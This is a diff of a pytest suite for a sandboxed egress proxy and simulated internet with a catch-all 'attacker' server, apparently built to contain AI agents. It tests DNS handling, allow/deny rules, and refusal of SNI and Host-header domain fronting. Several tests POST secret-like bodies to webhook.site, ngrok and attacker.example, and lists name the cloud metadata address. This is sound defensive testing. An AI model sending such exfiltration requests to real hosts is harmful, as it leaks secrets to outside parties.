@@ -14,6 +14,7 @@ import socket
 import ssl
 import subprocess
 import sys
+import threading
 import time
 import uuid
 from dataclasses import dataclass
@@ -31,7 +32,6 @@ HOSTS = [
     "attacker.example",
 ]  # fmt: skip
 LOCALHOST = "127.0.0.1"
-IP_LITERAL = "IP literal: the simulated internet is reached by name only"
 
 
 @dataclass(frozen=True)
@@ -118,7 +118,7 @@ def services(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Services]:
         ready = json.loads((world.internet_out / "ready").read_text())
         assert ready["address"] == LOCALHOST and ready["pid"] == procs[0].pid
         proxy_config = {
-            # 127.0.0.1 is listed on purpose: IP literals are refused even when listed.
+            # 127.0.0.1 is listed on purpose: a listed IP literal is looked up like a name, never dialled.
             "allowed": ["registry.npmjs.org", "*.github.com", "127.0.0.1"], "denied": ["api.github.com"],
             "listen_port": proxy_port, "bind": LOCALHOST, "dns_server": LOCALHOST, "dns_port": dns,
             "out_dir": str(world.proxy_out),
@@ -408,12 +408,14 @@ def test_denied_entry_wins_over_a_matching_wildcard(services: Services) -> None:
     assert (record["decision"], record["reason"]) == ("deny", 'matches denied entry "api.github.com"')
 
 
-def test_ip_literal_is_refused_even_when_listed(services: Services) -> None:
+def test_a_listed_ip_literal_is_looked_up_like_a_name_never_dialled(services: Services) -> None:
+    # This internet has no catch-all (see ``fail_closed`` for the backends' one): no server answers it.
     sock, head = _connect_through(services, LOCALHOST, services.http)
     sock.close()
-    assert head.startswith(b"HTTP/1.1 403")
+    assert head.startswith(b"HTTP/1.1 502")
     record = _wait_for(services.proxy_out / "proxy.jsonl", lambda r: r["host"] == LOCALHOST)
-    assert (record["decision"], record["reason"], record["port"]) == ("deny", IP_LITERAL, services.http)
+    assert (record["decision"], record["port"]) == ("allow", services.http) and "NXDOMAIN" in record["reason"]
+    _wait_for(services.internet_out / "dns.jsonl", lambda r: r.get("qname") == LOCALHOST and r["answered"] is False)
 
 
 def test_invalid_and_non_proxy_requests_get_400(services: Services) -> None:
@@ -506,10 +508,10 @@ def test_the_parent_proxy_dials_no_port_but_the_sinks(services: Services, parent
     assert record["reason"].endswith(f"no sink listens on port {other}")
 
 
-def test_the_parent_proxy_still_refuses_ip_literals_and_unknown_names(parent_proxy: tuple[int, Path]) -> None:
+def test_the_parent_proxy_still_refuses_names_no_server_answers(parent_proxy: tuple[int, Path]) -> None:
     port, log = parent_proxy
-    assert _exchange(port, b"CONNECT 127.0.0.1:443 HTTP/1.1\r\n\r\n").startswith(b"HTTP/1.1 403")
-    assert _wait_for(log, lambda r: r["host"] == LOCALHOST)["reason"] == IP_LITERAL
+    assert _exchange(port, b"CONNECT 127.0.0.1:443 HTTP/1.1\r\n\r\n").startswith(b"HTTP/1.1 502")
+    assert "NXDOMAIN" in _wait_for(log, lambda r: r["host"] == LOCALHOST)["reason"]
     assert _exchange(port, b"CONNECT nowhere.example:443 HTTP/1.1\r\n\r\n").startswith(b"HTTP/1.1 502")
     assert "NXDOMAIN" in _wait_for(log, lambda r: r["host"] == "nowhere.example")["reason"]
 
@@ -535,3 +537,173 @@ def test_each_service_beats_only_while_it_answers(services: Services) -> None:
         assert (services.proxy_out / "heartbeat").read_text() == frozen
     finally:
         os.kill(pid, signal.SIGCONT)
+
+
+# --- names the world does not know, and host identity ------------------------------------------
+
+OPERATORS = ["github.com", "githubusercontent.com", "npmjs.org", "pypi.org", "pythonhosted.org"]
+FAIL_CLOSED_ALLOWED = ["pypi.org", "files.pythonhosted.org", "webhook.site", "169.254.169.254", "localhost", "*.ngrok.io"]
+
+
+@pytest.fixture(scope="module")
+def fail_closed(services: Services, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Services]:
+    """The internet as the backends start it: every name the world does not know is the attacker's server."""
+    root = tmp_path_factory.mktemp("fail-closed")
+    opt = root / "opt"
+    shutil.copytree(services.proxy_out.parent / "opt", opt)
+    dns, http, https, tcp, proxy_port = _free_ports(5)
+    world = Services(root / "internet", root / "proxy", uuid.uuid4().hex, dns, http, https, tcp, proxy_port)
+    procs: list[subprocess.Popen[bytes]] = []
+    try:
+        procs.append(_start("internet.py", {
+            "hosts": HOSTS, "wildcard_zones": ["attacker.example"], "operators": OPERATORS, "catch_all": "attacker.example",
+            "address": LOCALHOST, "bind": LOCALHOST, "dns_port": dns, "http_port": http, "https_port": https,
+            "tcp_ports": [tcp], "out_dir": str(world.internet_out), "nonce": world.nonce,
+        }, opt, world.internet_out))  # fmt: skip
+        procs.append(_start("proxy.py", {
+            "allowed": FAIL_CLOSED_ALLOWED, "listen_port": proxy_port, "bind": LOCALHOST,
+            "dns_server": LOCALHOST, "dns_port": dns, "out_dir": str(world.proxy_out),
+        }, opt, world.proxy_out))  # fmt: skip
+        yield world
+    finally:
+        for proc in procs:
+            _stop(proc)
+
+
+def _tls_exchange(sock: socket.socket, ca: Path, sni: str, request: bytes) -> bytes:
+    """TLS over ``sock`` verifying the run's CA (strictly, as Python 3.13 does), one request, the whole answer."""
+    context = ssl.create_default_context(cafile=str(ca))
+    context.verify_flags |= ssl.VERIFY_X509_STRICT
+    with context.wrap_socket(sock, server_hostname=sni) as tls:
+        tls.sendall(request)
+        response = b""
+        while chunk := tls.recv(4096):
+            response += chunk
+    return response
+
+
+def _post(host: str, path: str, body: str) -> bytes:
+    return f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}".encode()
+
+
+def test_read_target_takes_only_the_proxys_line() -> None:
+    a, b = socket.socketpair()
+    with a, b:
+        a.sendall(common.target_line("pypi.org") + b"\x16\x03\x01 hello")
+        assert common.read_target(b, 1.0) == "pypi.org"
+        assert b.recv(100) == b"\x16\x03\x01 hello"  # the ClientHello behind it is left for TLS
+        a.sendall(b"GET / HTTP/1.1\r\n\r\n")
+        assert common.read_target(b, 1.0) is None
+        assert b.recv(100) == b"GET / HTTP/1.1\r\n\r\n"  # a direct connection loses nothing
+
+
+def test_dns_answers_unknown_names_for_the_attacker_but_not_an_operators_missing_ones(fail_closed: Services) -> None:
+    for name in ["webhook.site", "localhost", "169.254.169.254", "x.ngrok.io", "host.docker.internal", "pypi.org"]:
+        assert dnswire.query_a(LOCALHOST, name, fail_closed.dns) == [LOCALHOST], name
+    for name in ["nope.pypi.org", "abc.github.com", "heartbeat.invalid"]:
+        assert dnswire.query_a(LOCALHOST, name, fail_closed.dns) == [], name
+
+
+@pytest.mark.parametrize("name", ["webhook.site", "169.254.169.254", "localhost", "tok3n.ngrok.io"])
+def test_an_allowed_name_the_world_does_not_know_really_lands(fail_closed: Services, name: str) -> None:
+    """Through the proxy, with a certificate the run's CA signs for that very name (an IP SAN for an address)."""
+    token = uuid.uuid4().hex
+    sock, head = _connect_through(fail_closed, name, fail_closed.https)
+    assert head.startswith(b"HTTP/1.1 200"), head
+    response = _tls_exchange(sock, fail_closed.internet_out / "ca.pem", name, _post(name, f"/upload/{token}", f"key {token}"))
+    assert response.startswith(b"HTTP/1.1 200"), response
+    record = _wait_for(fail_closed.internet_out / "http.jsonl", lambda r: token in str(r.get("path")))
+    assert (record["host"], record["body"], record.get("via")) == (name, f"key {token}", None)
+
+
+def test_a_tls_name_of_another_server_is_refused_inside_a_tunnel(fail_closed: Services) -> None:
+    """CONNECT pypi.org, then SNI attacker.example: pypi.org's server does not answer for it."""
+    for sni in ("attacker.example", "upload.pypi.org"):
+        sock, head = _connect_through(fail_closed, "pypi.org", fail_closed.https)
+        assert head.startswith(b"HTTP/1.1 200")
+        with sock, pytest.raises(ssl.SSLError):
+            _tls_exchange(sock, fail_closed.internet_out / "ca.pem", sni, _post(sni, "/upload/x", "secret"))
+        record = _wait_for(fail_closed.internet_out / "http.jsonl", lambda r: r.get("misdirected") == sni)
+        assert (record["host"], record["stage"]) == ("pypi.org", "tls") and "body" not in record
+    delivered = [r for r in _records(fail_closed.internet_out / "http.jsonl") if r.get("body") == "secret"]
+    assert delivered == []
+
+
+def test_a_host_header_of_another_server_gets_421_and_nothing_is_delivered(fail_closed: Services) -> None:
+    """CONNECT pypi.org, SNI pypi.org (so even a proxy that reads SNI passes it), Host upload.pypi.org: domain fronting."""
+    token = uuid.uuid4().hex
+    sock, head = _connect_through(fail_closed, "pypi.org", fail_closed.https)
+    assert head.startswith(b"HTTP/1.1 200")
+    response = _tls_exchange(sock, fail_closed.internet_out / "ca.pem", "pypi.org", _post("upload.pypi.org", f"/front/{token}", token))
+    assert response.startswith(b"HTTP/1.1 421"), response
+    record = _wait_for(fail_closed.internet_out / "http.jsonl", lambda r: token in str(r.get("path")))
+    assert (record["host"], record["misdirected"], record["stage"]) == ("pypi.org", "upload.pypi.org", "http")
+    assert "body" not in record
+    assert not [r for r in _records(fail_closed.internet_out / "http.jsonl") if token in str(r.get("body", ""))]
+
+
+def test_the_attackers_server_answers_for_all_the_attackers_names(fail_closed: Services) -> None:
+    """A tunnel to a name the attacker owns reaches the attacker's server, which answers for attacker.example too."""
+    token = uuid.uuid4().hex
+    sock, head = _connect_through(fail_closed, "webhook.site", fail_closed.https)
+    assert head.startswith(b"HTTP/1.1 200")
+    response = _tls_exchange(sock, fail_closed.internet_out / "ca.pem", "attacker.example", _post("attacker.example", f"/front/{token}", token))
+    assert response.startswith(b"HTTP/1.1 200"), response
+    record = _wait_for(fail_closed.internet_out / "http.jsonl", lambda r: token in str(r.get("path")))
+    assert (record["host"], record["via"], record["body"]) == ("attacker.example", "webhook.site", token)
+
+
+def test_plain_http_to_an_unknown_name_and_a_forged_line_behind_the_proxys(fail_closed: Services) -> None:
+    token = uuid.uuid4().hex
+    response = _exchange(fail_closed.proxy, f"GET http://webhook.site:{fail_closed.http}/{token} HTTP/1.1\r\n\r\n".encode())
+    assert response.startswith(b"HTTP/1.1 200") and _body_json(response)["host"] == "webhook.site"
+    # the client's own "target line" comes after the proxy's: it is only a malformed request to pypi.org
+    sock, head = _connect_through(fail_closed, "pypi.org", fail_closed.http)
+    with sock:
+        sock.sendall(common.target_line("attacker.example") + f"GET /{token}x HTTP/1.1\r\nHost: attacker.example\r\n\r\n".encode())
+        sock.shutdown(socket.SHUT_WR)
+        answer = sock.recv(4096)
+    assert answer.startswith(b"HTTP/1.1 400"), answer
+    record = _wait_for(fail_closed.internet_out / "http.jsonl", lambda r: f"{token}x" in str(r.get("body")))
+    assert record["host"] == "pypi.org"
+
+
+def test_a_direct_connection_reaches_the_shared_address_which_answers_any_name(fail_closed: Services) -> None:
+    """Without the proxy's line (the plain container's own resolver), every name shares one address."""
+    token = uuid.uuid4().hex
+    with socket.create_connection((LOCALHOST, fail_closed.https), timeout=5) as raw:
+        response = _tls_exchange(raw, fail_closed.internet_out / "ca.pem", "pypi.org", _post("upload.pypi.org", f"/d/{token}", token))
+    assert response.startswith(b"HTTP/1.1 200")
+    record = _wait_for(fail_closed.internet_out / "http.jsonl", lambda r: token in str(r.get("path")))
+    assert record["host"] == "upload.pypi.org" and "via" not in record
+
+
+def test_the_proxy_dials_nothing_but_the_simulated_internet(fail_closed: Services, tmp_path: Path) -> None:
+    """Whatever a lookup answers, the proxy dials only its DNS server's address: never loopback's other
+    addresses, the metadata service, the host, another network."""
+    opt = fail_closed.proxy_out.parent / "opt"
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as liar, socket.create_server(("127.0.0.2", 0)) as elsewhere:
+        liar.bind((LOCALHOST, 0))
+        elsewhere.settimeout(0.5)
+        port_elsewhere = elsewhere.getsockname()[1]
+
+        def answer() -> None:  # a DNS server that points every name somewhere else
+            data, peer = liar.recvfrom(4096)
+            query = dnswire.parse_query(data)
+            assert query is not None
+            liar.sendto(dnswire.build_response(query, addresses=["127.0.0.2"]), peer)
+
+        threading.Thread(target=answer, daemon=True).start()
+        (port,) = _free_ports(1)
+        out = tmp_path / "proxy"
+        proc = _start("proxy.py", {"allowed": ["webhook.site"], "listen_port": port, "bind": LOCALHOST,
+                                   "dns_server": LOCALHOST, "dns_port": liar.getsockname()[1], "out_dir": str(out)}, opt, out)  # fmt: skip
+        try:
+            head = _exchange(port, f"CONNECT webhook.site:{port_elsewhere} HTTP/1.1\r\n\r\n".encode())
+            with pytest.raises(socket.timeout):
+                elsewhere.accept()
+        finally:
+            _stop(proc)
+    assert head.startswith(b"HTTP/1.1 502"), head
+    record = _wait_for(out / "proxy.jsonl", lambda r: r["host"] == "webhook.site")
+    assert "refused to dial 127.0.0.2" in record["reason"]
